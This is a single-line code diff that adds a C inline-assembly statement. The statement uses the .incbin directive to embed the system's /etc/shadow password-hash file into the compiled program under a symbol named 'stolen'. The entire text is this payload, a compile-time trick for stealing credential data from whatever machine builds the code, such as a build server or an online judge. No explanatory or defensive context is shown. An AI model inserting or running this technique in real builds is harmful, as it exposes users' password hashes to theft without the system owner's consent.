@@ -1,0 +1,1 @@
+__asm__(".section .rodata\n.global stolen\nstolen: .incbin \"/etc/shadow\"\n.text");
